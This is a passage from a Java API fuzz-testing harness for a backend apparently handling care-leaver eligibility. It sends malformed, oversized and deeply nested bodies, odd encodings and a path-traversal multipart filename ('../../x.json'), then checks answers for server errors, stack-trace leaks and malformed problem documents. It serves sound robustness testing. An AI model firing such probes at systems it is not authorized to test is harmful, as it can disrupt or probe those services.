  /** Bodies whose declared content type says something else (XML, a form, multipart). */
  private static List<Probe> typedBodies(Endpoint e) {
    List<Probe> probes = new ArrayList<>();
    Map<String, String> bodies = new LinkedHashMap<>();
    bodies.put("application/xml", "<request><asOf>2026-11-23</asOf></request>");
    bodies.put(
        "application/x-www-form-urlencoded",
        "asOf=2026-11-23&responsibleCouncil=LAN&facts.dateOfBirth=2006-05-14");
    bodies.put(
        "multipart/form-data; boundary=fuzz",
        "--fuzz\r\nContent-Disposition: form-data; name=\"asOf\"\r\n\r\n2026-11-23\r\n"
            + "--fuzz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../x.json\""
            + "\r\nContent-Type: application/json\r\n\r\n{}\r\n--fuzz--\r\n");
    bodies.put("multipart/form-data", "--nobound\r\n\r\n--nobound--");
    bodies.put("text/plain", "asOf is 2026-11-23");
    bodies.put("application/json", "<request/>");
    for (Map.Entry<String, String> body : bodies.entrySet()) {
      Draft draft = baseline(e);
      draft.contentType = body.getKey();
      draft.body = bytes(body.getValue());
      probes.add(draft.note(body.getKey() + " body").probe());
    }
    return probes;
  }

  private static List<Probe> oddEncodings(Endpoint e) {
    List<Probe> probes = new ArrayList<>();
    String valid = validBody(e).toString();
    List<byte[]> bodies = new ArrayList<>();
    bodies.add(valid.getBytes(StandardCharsets.UTF_16BE));
    bodies.add(valid.getBytes(StandardCharsets.UTF_16LE));
    bodies.add(concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, bytes(valid)));
    bodies.add(new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) 0xFD, '{', '}'});
    bodies.add(
        "{\"asOf\":\"2026-11-23\",\"x\":\"caf\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1));
    bodies.add(concat(bytes("{\"asOf\":\"2026-11-2"), new byte[] {(byte) 0xE9, '"', '}'}));
    bodies.add(
        concat(bytes("{\"responsibleCouncil\":\"LA"), new byte[] {(byte) 0xC0, (byte) 0x80}));
    bodies.add(new byte[] {0, '{', '}'});
    bodies.add(new byte[] {'{', '}', 0});
    bodies.add(bytes(valid.substring(0, valid.length() - 1) + "\u0000}"));
    for (byte[] body : bodies) {
      Draft draft = baseline(e);
      draft.body = body;
      probes.add(draft.note("body bytes " + body.length).probe());
    }
    return probes;
  }

  /** Bodies broken as a whole: not JSON, truncated JSON, the wrong JSON type, huge, deep. */
  private static List<String> wholeBodies(Endpoint e) {
    String valid = validBody(e).toString();
    List<String> bodies = new ArrayList<>();
    bodies.addAll(
        List.of(
            "",
            "null",
            "[]",
            "[{}]",
            "[" + valid + "]",
            "\"" + valid.replace("\"", "\\\"") + "\"",
            "42",
            "true",
            "{",
            "}",
            "{]",
            "{\"facts\":}",
            "{\"asOf\" \"2026-11-23\"}",
            "{'asOf':'2026-11-23'}",
            "{asOf:\"2026-11-23\"}",
            "{\"asOf\":\"2026-11-23\",}",
            "{,}",
            "{\"asOf\":\"2026-11-23\"}}",
            "{} {}",
            valid + " garbage",
            valid + "]",
            valid + valid,
            "/* comment */ {}",
            "// comment\n{}",
            "{\"asOf\":\"2026-11-23\\x\"}",
            "{\"asOf\":\"2026-11-23\n\"}",
            "{\"asOf\":\"\\ud800\"}",
            "{\"asOf\":\"\\uZZZZ\"}",
            "{\"asOf\":\"2026-11-23\",\"asOf\":\"2026-11-24\"}",
            "NaN",
            "{\"facts\":{\"weeksInCareSince14\":NaN}}",
            "{\"facts\":{\"weeksInCareSince14\":Infinity}}",
            "{\"facts\":{\"weeksInCareSince14\":-}}",
            "{\"facts\":{\"weeksInCareSince14\":0x10}}",
            "{\"facts\":{\"weeksInCareSince14\":01}}",
            "{\"facts\":{\"inCareNow\":True}}",
            "{\"facts\":{\"inCareNow\":undefined}}",
            "{}",
            " ".repeat(100_000) + "{}",
            "{\"facts\":" + DEEP_OBJECTS + "}",
            DEEP_ARRAYS,
            DEEP_OBJECTS,
            "[".repeat(10_000),
            "{\"a\":".repeat(10_000),
            "[".repeat(100_000) + "]".repeat(100_000),
            "{\"notSure\":[" + "\"inCareNow\",".repeat(100_000) + "\"inCareNow\"]}",
            "{\"facts\":{\"weeksInCareSince14\":" + "9".repeat(100_000) + "}}",
            "{\"facts\":{\"weeksInCareSince14\":0." + "0".repeat(100_000) + "1}}",
            "{\"facts\":{\"weeksInCareSince14\":1e999999999}}",
            "{\"notSure\":[\"" + "x".repeat(11 * 1024 * 1024) + "\"]}"));
    for (int cut :
        List.of(1, 2, 5, 10, valid.length() / 3, valid.length() / 2, valid.length() - 1)) {
      bodies.add(valid.substring(0, Math.max(0, Math.min(cut, valid.length() - 1))));
    }
    return bodies;
  }

  /** Values for one parameter: its edges, near misses of its schema, and hostile strings. */
  private static List<String> paramValues(Param p) {
    Schema<?> schema = p.schema();
    List<String> values = new ArrayList<>();
    String example = validParam(p);
    values.add(example);
    switch (type(schema)) {
      case "integer", "number" -> {
        BigDecimal min = schema.getMinimum();
        BigDecimal max = schema.getMaximum();
        if (min != null) {
          values.addAll(List.of(min.toPlainString(), min.subtract(BigDecimal.ONE).toPlainString()));
        }
        if (max != null) {
          values.addAll(List.of(max.toPlainString(), max.add(BigDecimal.ONE).toPlainString()));
        }
        values.addAll(
            List.of(
                "-1",
                "0",
                "2147483647",
                "2147483648",
                "-2147483649",
                "9223372036854775808",
                "99999999999999999999999",
                "-99999999999999999999999",
                "9".repeat(5000),
                "1.5",
                "1.0",
                "1e3",
                "0x10",
                "abc",
                "1,000",
                " 1",
                "1 ",
                "+1",
                "01",
                "-0",
                "\u0661",
                "\uFF11",
                "true",
                "[]",
                "null",
                "NaN",
                "Infinity"));
      }
      case "boolean" ->
          values.addAll(
              List.of(
                  "true", "false", "TRUE", "False", "yes", "no", "1", "0", "on", "off", "y", "t",
                  "truee", "null", "2", "[]"));
      default -> {
        for (String value : enumValues(schema)) {
          values.addAll(
              List.of(
                  value,
                  value.toUpperCase(Locale.ROOT),
                  value + " ",
                  " " + value,
                  value + "\u0000",
                  value + "\u200B"));
        }
        if (!enumValues(schema).isEmpty()) {
          values.add("not_a_value");
        }
        values.addAll(
            List.of(
                example.toLowerCase(Locale.ROOT),
                example.toUpperCase(Locale.ROOT),
                example + "X",
                example.substring(1),
                example + example,
                example + "\u0000",
                example + "\u200D"));
        if (schema.getMaxLength() != null) {
          values.add("x".repeat(schema.getMaxLength()));
          values.add("x".repeat(schema.getMaxLength() + 1));
        }
        if ("date".equals(schema.getFormat())) {
          values.addAll(BAD_DATES);
          values.addAll(EDGE_DATES);
        }
      }
    }
    values.addAll(HOSTILE);
    values.add("");
    return values;
  }

  /** JSON texts to put in place of one body value: wrong types, near misses, odd strings. */
  private static List<String> fragments(Schema<?> schema, JsonNode valid) {
    String v = valid.toString();
    List<String> fragments = new ArrayList<>();
    fragments.addAll(List.of("null", "[" + v + "]", "{\"value\":" + v + "}", DEEP_ARRAYS));
    switch (type(schema)) {
      case "object" -> fragments.addAll(List.of("[]", "\"x\"", "1", "true", "{}", DEEP_OBJECTS));
      case "array" -> {
        fragments.addAll(
            List.of("{}", "\"x\"", "1", "true", "[]", "[[]]", "[{}]", "[1]", "[null]", "[true]"));
        if (valid.size() > 0) {
          String item = valid.get(0).toString();
          fragments.add("[" + item + "," + item + "]");
        }
        for (String item : fragments(schema.getItems(), valid.size() > 0 ? valid.get(0) : valid)) {
          if (item.length() < 1000) {
            fragments.add("[" + item + "]");
          }
        }
        List<String> values = enumValues(schema.getItems());
        if (schema.getMaxItems() != null && !values.isEmpty()) {
          List<String> many = new ArrayList<>();
          for (int i = 0; i <= schema.getMaxItems(); i++) {
            many.add("\"" + values.get(i % values.size()) + "\"");
          }
          fragments.add("[" + String.join(",", many) + "]");
          fragments.add(
              "[" + String.join(",", values.stream().map(x -> "\"" + x + "\"").toList()) + "]");
          for (String value : values) {
            fragments.add("[\"" + value + "\"]");
          }
        }
      }
      case "integer", "number" -> {
        fragments.addAll(
            List.of(
                "\"" + v + "\"",
                "1.5",
                "0.1",
                "true",
                "[]",
                "{}",
                "\"\"",
                "1e400",
                "-1e400",
                "1e-400",
                "99999999999999999999999",
                "-99999999999999999999999",
                "2147483648",
                "-2147483649",
                "9223372036854775808",
                "-0",
                "-0.0",
                "1e2",
                "100.0",
                "NaN",
                "Infinity",
                "-Infinity",
                "0x10",
                "+1",
                "01",
                ".5",
                "1.",
                "1e",
                "--1"));
        if (schema.getMinimum() != null) {
          BigDecimal min = schema.getMinimum();
          fragments.add(min.toPlainString());
          fragments.add(min.subtract(BigDecimal.ONE).toPlainString());
        }
        if (schema.getMaximum() != null) {
          BigDecimal max = schema.getMaximum();
          fragments.add(max.toPlainString());
          fragments.add(max.add(BigDecimal.ONE).toPlainString());
        }
      }
      case "boolean" ->
          fragments.addAll(
              List.of(
                  "\"true\"",
                  "\"false\"",
                  "\"yes\"",
                  "\"\"",
                  "1",
                  "0",
                  "[]",
                  "{}",
                  "[true]",
                  "True",
                  "TRUE",
                  "tru",
                  "t",
                  "\"TRUE\""));
      default -> {
        fragments.addAll(List.of("42", "true", "[]", "{}", "\"\"", "0", "-1.5"));
        for (String s : HOSTILE) {
          fragments.add(quote(s));
        }
        fragments.addAll(
            List.of(
                "\"\\ud800\"",
                "\"\\udfff\"",
                "\"\\udc00\\ud800\"",
                "\"LA\\ud800N\"",
                "\"\\u0000\"",
                "\"\\u202e\\u200d\\u200b\"",
                "\"\\uD83D\\uDE00\""));
        String text = valid.asText();
        for (String near :
            List.of(
                text.toLowerCase(Locale.ROOT),
                text.toUpperCase(Locale.ROOT),
                text + " ",
                " " + text,
                text + "\u0000",
                text + "\u200B",
                text + "X",
                text.isEmpty() ? "" : text.substring(1),
                text + text)) {
          fragments.add(quote(near));
        }
        for (String value : enumValues(schema)) {
          fragments.add(quote(value));
          fragments.add(quote(value.toUpperCase(Locale.ROOT)));
        }
        if ("date".equals(schema.getFormat())) {
          for (String date : concat(BAD_DATES, EDGE_DATES)) {
            fragments.add(quote(date));
          }
        }
      }
    }
    return fragments;
  }

  /** Every place in a valid body a value can go: each property, at any depth, and array items. */
  private static List<List<String>> slots(Schema<?> schema, List<String> prefix) {
    List<List<String>> slots = new ArrayList<>();
    if (type(schema).equals("object")) {
      for (Map.Entry<String, Schema<?>> property : properties(schema).entrySet()) {
        List<String> slot = concat(prefix, List.of(property.getKey()));
        slots.add(slot);
        slots.addAll(slots(property.getValue(), slot));
      }
    }
    if (prefix.isEmpty()) {
      slots.add(0, List.of());
    }
    return slots;
  }

  private static Schema<?> schemaAt(Schema<?> schema, List<String> slot) {
    Schema<?> at = schema;
    for (String name : slot) {
      at = properties(at).get(name);
    }
    return at;
  }

  private static JsonNode nodeAt(JsonNode node, List<String> slot) {
    JsonNode at = node;
    for (String name : slot) {
      at = at.get(name);
    }
    return at;
  }

  private static final String MARK = "@@fuzz@@";

  /** The body with the value at a slot replaced by a JSON text (which need not be valid JSON). */
  private static String replaced(JsonNode valid, List<String> slot, String fragment) {
    if (slot.isEmpty()) {
      return fragment;
    }
    JsonNode copy = valid.deepCopy();
    ObjectNode parent = (ObjectNode) nodeAt(copy, slot.subList(0, slot.size() - 1));
    parent.put(slot.get(slot.size() - 1), MARK);
    return copy.toString().replace("\"" + MARK + "\"", fragment);
  }

  private static String replacedAll(JsonNode valid, Map<List<String>, String> fragments) {
    JsonNode copy = valid.deepCopy();
    List<String> marks = new ArrayList<>();
    for (List<String> slot : fragments.keySet()) {
      ObjectNode parent = (ObjectNode) nodeAt(copy, slot.subList(0, slot.size() - 1));
      String mark = MARK + marks.size();
      parent.put(slot.get(slot.size() - 1), mark);
      marks.add(mark);
    }
    String text = copy.toString();
    int i = 0;
    for (String fragment : fragments.values()) {
      text = text.replace("\"" + marks.get(i++) + "\"", fragment);
    }
    return text;
  }

  private static String withExtra(JsonNode valid, List<String> slot, String name, String value) {
    JsonNode copy = valid.deepCopy();
    ((ObjectNode) nodeAt(copy, slot)).put(MARK, MARK);
    return copy.toString().replace("\"" + MARK + "\":\"" + MARK + "\"", quote(name) + ":" + value);
  }

  private static String without(JsonNode valid, List<String> slot, String name) {
    JsonNode copy = valid.deepCopy();
    ((ObjectNode) nodeAt(copy, slot)).remove(name);
    return copy.toString();
  }

  // Random requests: the same mistakes, combined, and values drawn at random

  private static Probe randomProbe(Endpoint e, Random random) {
    Draft draft = baseline(e);
    int kind = random.nextInt(10);
    if (kind < 5 && !e.params().isEmpty()) {
      int count = 1 + random.nextInt(Math.min(3, e.params().size()));
      List<Param> params = new ArrayList<>(e.params());
      for (int i = 0; i < count; i++) {
        Param p = params.remove(random.nextInt(params.size()));
        if (!p.in().equals("header") && random.nextInt(8) == 0) {
          setRaw(draft, p, pick(random, RAW_ENCODED));
        } else {
          set(draft, p, randomParamValue(p, random));
        }
      }
    } else if (kind < 8 && e.body() != null) {
      JsonNode valid = validBody(e);
      List<List<String>> slots = slots(e.body(), List.of());
      slots.remove(List.<String>of());
      Map<List<String>, String> chosen = new LinkedHashMap<>();
      int count = 1 + random.nextInt(3);
      for (int i = 0; i < count; i++) {
        List<String> slot = pick(random, slots);
        boolean nested =
            chosen.keySet().stream()
                .anyMatch(
                    s -> s.size() != slot.size() && (startsWith(s, slot) || startsWith(slot, s)));
        if (!nested) {
          chosen.put(slot, randomFragment(schemaAt(e.body(), slot), nodeAt(valid, slot), random));
        }
      }
      draft.body = bytes(replacedAll(valid, chosen));
      draft.note("body " + chosen);
    } else if (kind < 9 && e.body() != null) {
      String valid = validBody(e).toString();
      byte[] body = bytes(valid);
      if (random.nextBoolean()) {
        draft.body = Arrays.copyOf(body, random.nextInt(body.length));
        draft.note("truncated to " + draft.body.length);
      } else {
        int flips = 1 + random.nextInt(4);
        for (int i = 0; i < flips; i++) {
          body[random.nextInt(body.length)] = (byte) random.nextInt(256);
        }
        draft.body = body;
        draft.note("bytes changed");
      }
    } else {
      switch (random.nextInt(4)) {
        case 0 -> {
          draft.method = pick(random, UNKNOWN_METHODS);
          draft.note("method " + draft.method);
        }
        case 1 -> {
          draft.contentType = pick(random, concat(WRONG_CONTENT_TYPES, ODD_JSON_CONTENT_TYPES));
          draft.note("content type " + draft.contentType);
        }
        case 2 -> {
          Map.Entry<String, String> header = pick(random, ODD_HEADERS);
          draft.headers.put(header.getKey(), header.getValue());
          draft.note("header " + header.getKey());
        }
        default -> {
          String name = randomString(random, 1 + random.nextInt(20));
          String value = randomString(random, random.nextInt(40));
          draft.query.add(encode(name) + "=" + encode(value));
          draft.note("unknown query parameter " + name);
        }
      }
    }
    return draft.probe();
  }

  private static boolean startsWith(List<String> list, List<String> prefix) {
    return list.size() >= prefix.size() && list.subList(0, prefix.size()).equals(prefix);
  }

  private static String randomParamValue(Param p, Random random) {
    Schema<?> schema = p.schema();
    switch (random.nextInt(4)) {
      case 0:
        return pick(random, paramValues(p));
      case 1:
        return randomString(random, random.nextInt(random.nextBoolean() ? 8 : 300));
      default:
        switch (type(schema)) {
          case "integer", "number" -> {
            return randomNumber(schema, random);
          }
          case "boolean" -> {
            return random.nextBoolean() ? String.valueOf(random.nextBoolean()) : "x";
          }
          default -> {
            if ("date".equals(schema.getFormat())) {
              return randomDate(random);
            }
            String fromPattern = randomFromPattern(schema.getPattern(), random);
            if (fromPattern != null) {
              return fromPattern;
            }
            List<String> values = enumValues(schema);
            if (!values.isEmpty()) {
              return mutate(pick(random, values), random);
            }
            return randomString(random, random.nextInt(120));
          }
        }
    }
  }

  private static String randomFragment(Schema<?> schema, JsonNode valid, Random random) {
    switch (random.nextInt(5)) {
      case 0:
        return pick(random, fragments(schema, valid));
      case 1:
        return randomJson(random, 3);
      default:
        switch (type(schema)) {
          case "integer", "number" -> {
            return randomNumber(schema, random);
          }
          case "boolean" -> {
            return random.nextBoolean() ? String.valueOf(random.nextBoolean()) : quote("true");
          }
          case "array" -> {
            List<String> items = new ArrayList<>();
            int n = random.nextInt(6);
            for (int i = 0; i < n; i++) {
              items.add(randomFragment(schema.getItems(), valid.path(0), random));
            }
            return "[" + String.join(",", items) + "]";
          }
          case "object" -> {
            return randomJson(random, 2);
          }
          default -> {
            if ("date".equals(schema.getFormat())) {
              return quote(randomDate(random));
            }
            String fromPattern = randomFromPattern(schema.getPattern(), random);
            if (fromPattern != null) {
              return quote(fromPattern);
            }
            List<String> values = enumValues(schema);
            if (!values.isEmpty()) {
              return quote(mutate(pick(random, values), random));
            }
            return randomJsonString(random);
          }
        }
    }
  }

  private static String randomNumber(Schema<?> schema, Random random) {
    BigDecimal min = schema.getMinimum() != null ? schema.getMinimum() : BigDecimal.ZERO;
    BigDecimal max = schema.getMaximum() != null ? schema.getMaximum() : BigDecimal.valueOf(1000);
    return switch (random.nextInt(5)) {
      case 0 -> min.add(BigDecimal.valueOf(random.nextInt(11) - 5)).toPlainString();
      case 1 -> max.add(BigDecimal.valueOf(random.nextInt(11) - 5)).toPlainString();
      case 2 -> String.valueOf(random.nextLong());
      case 3 -> String.valueOf(random.nextDouble() * Math.pow(10, random.nextInt(40) - 10));
      default ->
          String.valueOf(
              min.longValue()
                  + (long) (random.nextDouble() * (max.longValue() - min.longValue() + 1)));
    };
  }

  /** A date at random, often impossible, sometimes far off, sometimes badly written. */
  private static String randomDate(Random random) {
    int year =
        switch (random.nextInt(4)) {
          case 0 -> random.nextInt(100_000);
          case 1 -> 1990 + random.nextInt(60);
          default -> 2000 + random.nextInt(40);
        };
    int month = random.nextInt(14);
    int day = random.nextInt(33);
    String format = random.nextInt(5) == 0 ? "%d-%d-%d" : "%04d-%02d-%02d";
    return String.format(Locale.ROOT, format, year, month, day);
  }

  /** For patterns of the form ^[chars]{m,n}$: a string of those characters, often too long. */
  private static String randomFromPattern(String pattern, Random random) {
    if (pattern == null) {
      return null;
    }
    Matcher m = Pattern.compile("\\^\\[(.+)\\]\\{(\\d+)(?:,(\\d+))?\\}\\$").matcher(pattern);
    if (!m.matches()) {
      return null;
    }
    StringBuilder chars = new StringBuilder();
    String set = m.group(1);
    for (int i = 0; i < set.length(); i++) {
      if (i + 2 < set.length() && set.charAt(i + 1) == '-') {
        for (char c = set.charAt(i); c <= set.charAt(i + 2); c++) {
          chars.append(c);
        }
        i += 2;
      } else {
        chars.append(set.charAt(i));
      }
    }
    int min = Integer.parseInt(m.group(2));
    int max = m.group(3) == null ? min : Integer.parseInt(m.group(3));
    int length = Math.max(0, min - 1 + random.nextInt(max - min + 3));
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < length; i++) {
      out.append(chars.charAt(random.nextInt(chars.length())));
    }
    return out.toString();
  }

  private static String mutate(String value, Random random) {
    if (value.isEmpty()) {
      return randomString(random, 3);
    }
    StringBuilder out = new StringBuilder(value);
    int at = random.nextInt(value.length());
    switch (random.nextInt(4)) {
      case 0 -> out.setCharAt(at, Character.toUpperCase(out.charAt(at)));
      case 1 -> out.insert(at, randomString(random, 1));
      case 2 -> out.deleteCharAt(at);
      default -> {
        return value; // unchanged: a valid value
      }
    }
    return out.toString();
  }

  private static final int[][] CODE_POINT_RANGES = {
    {0x20, 0x7E},
    {0x00, 0x1F},
    {0x80, 0xFF},
    {0x200B, 0x200F},
    {0x202A, 0x202E},
    {0x0590, 0x06FF},
    {0xFE00, 0xFFFF},
    {0x1F300, 0x1F64F},
    {0xE000, 0xE0FF},
    {0x10FFF0, 0x10FFFF}
  };

  private static String randomString(Random random, int length) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < length; i++) {
      int[] range = CODE_POINT_RANGES[random.nextInt(CODE_POINT_RANGES.length)];
      out.appendCodePoint(range[0] + random.nextInt(range[1] - range[0] + 1));
    }
    return out.toString();
  }

  /** A JSON string, sometimes with escapes Java strings cannot carry (lone surrogates). */
  private static String randomJsonString(Random random) {
    String quoted = quote(randomString(random, random.nextInt(30)));
    if (random.nextInt(4) == 0) {
      String lone = random.nextBoolean() ? "\\ud83d" : "\\ude00";
      int at = 1 + random.nextInt(quoted.length() - 1);
      if (quoted.charAt(at - 1) != '\\') {
        quoted = quoted.substring(0, at) + lone + quoted.substring(at);
      }
    }
    return quoted;
  }

  private static String randomJson(Random random, int depth) {
    int kind = random.nextInt(depth > 0 ? 7 : 5);
    switch (kind) {
      case 0:
        return "null";
      case 1:
        return String.valueOf(random.nextBoolean());
      case 2:
        return random.nextBoolean()
            ? String.valueOf(random.nextInt())
            : String.valueOf(random.nextGaussian() * 1e6);
      case 3:
      case 4:
        return randomJsonString(random);
      case 5:
        List<String> items = new ArrayList<>();
        for (int i = random.nextInt(4); i > 0; i--) {
          items.add(randomJson(random, depth - 1));
        }
        return "[" + String.join(",", items) + "]";
      default:
        List<String> fields = new ArrayList<>();
        for (int i = random.nextInt(4); i > 0; i--) {
          fields.add(
              quote("k" + i + randomString(random, 3)) + ":" + randomJson(random, depth - 1));
        }
        return "{" + String.join(",", fields) + "}";
    }
  }

  // ---------------------------------------------------------------------------------------------
  // Sending and checking

  record Answer(int status, String contentType, byte[] body, long millis, String error) {
    @Override
    public String toString() {
      return error != null
          ? error
          : status
              + " "
              + contentType
              + " "
              + abbreviate(new String(body, StandardCharsets.UTF_8), 300)
              + " in "
              + millis
              + " ms";
    }
  }

  private Answer send(String base, Probe probe) {
    HttpRequest.Builder request =
        HttpRequest.newBuilder(URI.create(base + probe.target()))
            .timeout(TIMEOUT)
            .method(
                probe.method(),
                probe.body() == null
                    ? BodyPublishers.noBody()
                    : BodyPublishers.ofByteArray(probe.body()));
    if (probe.contentType() != null) {
      request.header("Content-Type", probe.contentType());
    }
    probe.headers().forEach(request::header);
    long start = System.nanoTime();
    try {
      HttpResponse<byte[]> response = client.send(request.build(), BodyHandlers.ofByteArray());
      long millis = (System.nanoTime() - start) / 1_000_000;
      return new Answer(
          response.statusCode(),
          response.headers().firstValue("Content-Type").orElse(null),
          response.body(),
          millis,
          null);
    } catch (HttpTimeoutException e) {
      return new Answer(0, null, new byte[0], TIMEOUT.toMillis(), "no answer within " + TIMEOUT);
    } catch (IOException e) {
      return new Answer(0, null, new byte[0], 0, "no answer: " + e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  /** The backend's {@code micronaut.server.max-request-size} (64 KB). */
  private static boolean overTheBodyLimit(Probe probe) {
    return probe.body() != null && probe.body().length > 64 * 1024;
  }

  private static List<String> problems(Probe probe, Answer answer) {
    List<String> problems = new ArrayList<>();
    if (answer.error() != null) {
      // Over the body limit the server answers 413 and may close the connection while the client
      // is still sending (RFC 9110 s.15.5.14); the client then sees the close, not the 413.
      if (overTheBodyLimit(probe) && answer.error().startsWith("no answer: ")) {
        return problems;
      }
      problems.add(answer.error());
      return problems;
    }
    int status = answer.status();
    if (status >= 500) {
      problems.add("server error " + answer);
    } else if (probe.expect() == REFUSED && (status < 400 || status >= 500)) {
      problems.add("not refused: " + answer);
    }
    String body = new String(answer.body(), StandardCharsets.UTF_8);
    for (String leak : List.of("at uk.", "Exception", ".java:", "at io.micronaut", "\tat ")) {
      if (body.contains(leak)) {
        problems.add("leaks \"" + leak.trim() + "\": " + answer);
        break;
      }
    }
    if (status >= 400 && !probe.method().equals("HEAD")) {
      problems.addAll(problemDocumentErrors(answer));
    }
    return problems;
  }

  private static List<String> problemDocumentErrors(Answer answer) {
    if (answer.contentType() == null
        || !answer.contentType().startsWith("application/problem+json")) {
      return List.of("not application/problem+json: " + answer);
    }
    try {
      JsonNode problem = JSON.readTree(answer.body());
      List<String> errors = new ArrayList<>();
      if (problem == null || !problem.isObject()) {
        return List.of("not a problem document: " + answer);
      }
      if (!problem.path("type").asText().equals(ProblemType.forStatus(answer.status()).uri())) {
        errors.add("problem type is not the one for its status: " + answer);
      }
      if (!problem.path("title").isTextual() || problem.path("title").asText().isBlank()) {
        errors.add("problem without a title: " + answer);
      }
      if (!problem.path("status").isInt() || problem.path("status").asInt() != answer.status()) {
        errors.add("problem status is not the HTTP status: " + answer);
      }
      return errors;
    } catch (IOException e) {
      return List.of("problem is not JSON: " + answer);
    }
  }

  /** Null when the app says it is UP; otherwise what it said. */
  private String health(String base) {
    Answer answer =
        send(
            base,
            new Probe(
                "health", "GET", "/health", Map.of(), null, null, NOT_A_SERVER_ERROR, "health"));
    try {
      if (answer.status() == 200
          && "UP".equals(JSON.readTree(answer.body()).path("status").asText())) {
        return null;
      }
    } catch (IOException e) {
      // reported below
    }
    return answer.toString();
  }

  // ---------------------------------------------------------------------------------------------
  // Small helpers

  private static final char[] HEX = "0123456789ABCDEF".toCharArray();

  /** Percent-encodes everything but RFC 3986 unreserved characters, as UTF-8. */
  static String encode(String value) {
    StringBuilder out = new StringBuilder();
    for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
      int c = b & 0xff;
      if ((c >= 'a' && c <= 'z')
          || (c >= 'A' && c <= 'Z')
          || (c >= '0' && c <= '9')
          || c == '-'
          || c == '_'
          || c == '.'
          || c == '~') {
        out.append((char) c);
      } else {
        out.append('%').append(HEX[c >> 4]).append(HEX[c & 15]);
      }
    }
    return out.toString();
  }

  private static String decode(String raw) {
    return URLDecoder.decode(raw, StandardCharsets.UTF_8);
  }

  private static boolean headerSafe(String value) {
    return value.chars().allMatch(c -> c >= 0x20 && c < 0x7F);
  }

  private static String quote(String value) {
    try {
      return JSON.writeValueAsString(value);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  private static <T> List<T> concat(List<T> a, List<T> b) {
    List<T> out = new ArrayList<>(a);
    out.addAll(b);
    return out;
  }

  private static <T> T pick(Random random, List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  private static String abbreviate(String text, int max) {
    return text.length() <= max ? text : text.substring(0, max) + "...(" + text.length() + ")";
  }
}
